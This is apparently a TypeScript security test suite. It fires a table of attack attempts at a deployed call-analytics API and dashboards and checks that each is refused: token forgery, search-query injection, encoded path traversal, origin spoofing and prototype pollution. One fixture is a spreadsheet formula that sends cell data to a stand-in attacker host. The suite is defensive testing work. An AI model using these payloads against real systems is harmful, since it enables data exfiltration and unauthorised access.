/**
 * What somebody might try, and the refusal that they get: the table of docs/security.md, against the deployed stack.
 * Attempts at the agents' sign-in, which not every deployment has, are in agents.stack.test.ts.
 */
import { text } from 'node:stream/consumers';
import { beforeAll } from 'vitest';
import { signedByPool, tokenOfOtherPool, unsigned, withClaims } from './harness/cognito-tokens.ts';
import { type Answer, send } from './harness/http.ts';
import { post, statsAt } from './harness/ingest.ts';
import { createMember, createUser, signIn, tokensOf } from './harness/manager.ts';
import { query } from './harness/query.ts';
import { callWhen } from './harness/search.ts';
import { runningStack } from './harness/stack.ts';
import { test } from './harness/visitor.ts';

const agent = 'karolina.grabowska';
const ofVip = crypto.randomUUID();
const ofFormula = crypto.randomUUID();
const formula = '=HYPERLINK("https://attacker.example?"&A1)';
const now = Date.now();
const range: [string, string][] = [
  ['from', new Date(now - 3_600_000).toISOString()],
  ['to', new Date(now + 3_600_000).toISOString()],
];
const admin = { 'cognito:groups': ['managers', 'admins'] };
/** Tokens by who has them. */
const has = { manager: '', id: '', billing: '', nobody: '', other: '', expired: '' };

const asked = (token: string, path: string, more: [string, string][] = []) =>
  query(path, token, [...range, ...more]);
const posted = (change: object, headers: Readonly<Record<string, string>> = {}) =>
  post('/softphone-stats', { ...statsAt(new Date(now), agent, crypto.randomUUID()), ...change }, headers);
const at = (path: string) => send(`${runningStack().apiUrl}${path}`);
/** Node would tidy such a path before it is sent; the sites must cope with it as it is. */
const file = (site: 'softphoneUrl' | 'dashboardsUrl', path: string) => send(`${runningStack()[site]}${path}`);

async function storeCall(contactId: string, name: string): Promise<void> {
  const stats = statsAt(new Date(now - 60_000), agent, contactId);
  await post('/softphone-stats', { ...stats, call: { ...stats.call, queue: { name } } });
  await callWhen('the call', contactId, () => true);
}

beforeAll(async () => {
  await Promise.all([storeCall(ofVip, 'VIP'), storeCall(ofFormula, formula)]);
  const manager = await tokensOf(await createMember([]));
  has.manager = manager.access;
  has.id = manager.id;
  has.billing = (await tokensOf(await createMember(['billing-leads']))).access;
  has.nobody = (await tokensOf(await createUser())).access;
  has.other = await tokenOfOtherPool();
  const hourAgo = Math.floor(now / 1000) - 3600;
  has.expired = await signedByPool(manager.access, { iat: hourAgo - 3600, exp: hourAgo });
});

type Attempt = [attempt: string, make: () => Promise<Answer>, status: number, says: RegExp];

const attempts: Attempt[] = [
  ['to look without a token', () => at('/query/overview'), 401, /Unauthorized/],
  ['to look with nonsense for a token', () => asked('nonsense', 'calls'), 401, /Unauthorized/],
  ['to look with a token of another pool', () => asked(has.other, 'calls'), 401, /Unauthorized/],
  [
    'to look with a token that the pool signed and that has expired',
    () => asked(has.expired, 'calls'),
    401,
    /Unauthorized/,
  ],
  [
    'to write oneself into a group, in a token signed before',
    () => asked(withClaims(has.nobody, admin), 'calls'),
    401,
    /Unauthorized/,
  ],
  [
    'to write oneself into a group, in a token without a signature',
    () => asked(unsigned(has.nobody, admin), 'calls'),
    401,
    /Unauthorized/,
  ],
  [
    'to name one’s groups in the query string',
    () => asked(has.nobody, 'calls', [['cognito:groups', 'admins']]),
    403,
    /forbidden/,
  ],
  ['to look as a user in no group', () => asked(has.nobody, 'calls'), 403, /Ask an admin/],
  ['to look with the ID token in place of the access token', () => asked(has.id, 'calls'), 403, /forbidden/],
  [
    'as a manager of Billing, to see a call of VIP',
    () => query(`calls/${ofVip}`, has.billing),
    404,
    /notFound/,
  ],
  [
    'as a manager of Billing, to see it by its agent',
    () => query(`calls/${ofVip}`, has.billing, [['agent', agent]]),
    404,
    /notFound/,
  ],
  [
    'as a manager of Billing, to have its support bundle',
    () => query(`contacts/${ofVip}/support-bundle`, has.billing),
    404,
    /notFound/,
  ],
  [
    'as a manager of Billing, to list VIP',
    () => asked(has.billing, 'calls', [['queue', 'VIP']]),
    200,
    /"total":0/,
  ],
  [
    'as a manager of Billing, to widen the limit by a filter of one’s own',
    () => asked(has.billing, 'calls', [['limits', 'null']]),
    400,
    /invalid/,
  ],
  [
    'to send a query for a value',
    () => asked(has.manager, 'calls', [['queue', '{"match_all":{}}']]),
    200,
    /"total":0/,
  ],
  [
    'to send a wildcard for a value',
    () =>
      asked(has.manager, 'calls', [
        ['queue', '*'],
        ['agent', '?*'],
      ]),
    200,
    /"total":0/,
  ],
  [
    'to send a wildcard to the search box',
    () => asked(has.manager, 'calls', [['search', '*']]),
    200,
    /"total":0/,
  ],
  [
    'to send a regular expression to the search box',
    () => asked(has.manager, 'calls', [['search', '.*']]),
    200,
    /"total":0/,
  ],
  ['to send a script as the order', () => asked(has.manager, 'calls', [['sort', '_script']]), 400, /invalid/],
  [
    'to send a query as the place to go on from',
    () => asked(has.manager, 'calls', [['after', '[{"match_all":{}},"",""]']]),
    400,
    /invalid/,
  ],
  ['to reach another index by the path', () => query('calls/..%2F..%2F_all', has.manager), 404, /notFound/],
  ['to reach the search service’s own API', () => query('_cat/indices', has.manager), 404, /notFound/],
  [
    'to send from another site',
    () => posted({}, { origin: 'https://attacker.example' }),
    403,
    /forbiddenOrigin/,
  ],
  [
    'to send from a site whose name begins like ours',
    () => posted({}, { origin: `${new URL(runningStack().softphoneUrl).origin}.attacker.example` }),
    403,
    /forbiddenOrigin/,
  ],
  ['to send from no site', () => posted({}, { origin: '' }), 403, /forbiddenOrigin/],
  [
    'to send as somebody whom the instance does not have',
    () => posted({ agent: 'mallory' }),
    403,
    /unknownAgent/,
  ],
  ['to send for another instance', () => posted({ instanceId: 'another' }), 400, /\$\.instanceId/],
  [
    'to send what has not happened yet',
    () => posted(statsAt(new Date(now + 7_200_000), agent, ofVip)),
    400,
    /is in the future/,
  ],
  ['to send a message of 300 KB', () => posted({ more: 'x'.repeat(300 * 1024) }), 413, /tooLarge/],
  [
    'to send a form, which needs no preflight',
    () => posted({}, { 'content-type': 'text/plain' }),
    415,
    /notJson/,
  ],
  [
    'to send a field that would become a prototype',
    () => posted({ call: JSON.parse('{"__proto__":{"contactId":"x"}}') }),
    400,
    /invalid/,
  ],
  [
    'to read a file outside of the agents’ site',
    () => file('softphoneUrl', '..%2f..%2f..%2f..%2fpackage.json'),
    404,
    /^(?!.*"devDependencies")/s,
  ],
  [
    'to read one by its settings',
    () => file('softphoneUrl', 'settings.json%2f..%2f..%2fpackage.json'),
    404,
    /^(?!.*"devDependencies")/s,
  ],
  [
    'to read the other site’s settings',
    () => file('dashboardsUrl', 'assets/..%2f..%2fagent/settings.json'),
    404,
    /^(?!.*ccpUrl)/s,
  ],
];

test.for(attempts)('%s', async ([, make, status, says], { expect }) => {
  const answer = await make();
  expect([answer.status, answer.text.slice(0, 300)]).toEqual([status, expect.stringMatching(says)]);
});

test('the same token, signed alike and not expired, opens: it was the time that was refused', async ({
  expect,
}) => {
  const exp = Math.floor(now / 1000) + 600;
  expect((await asked(await signedByPool(has.manager, { exp }), 'calls')).status).toBe(200);
});

test('to have a formula run by the spreadsheet that opens the list', async ({ visit, expect }) => {
  const { page } = await signIn(visit);
  await page.goto(new URL(`/calls?search=${ofFormula}`, runningStack().dashboardsUrl).href);
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Download CSV' }).click(),
  ]);
  const csv = await text(await download.createReadStream());
  expect(csv).toContain(`"'${formula.replaceAll('"', '""')}"`);
  expect(csv.split('\r\n')).toHaveLength(3);
});
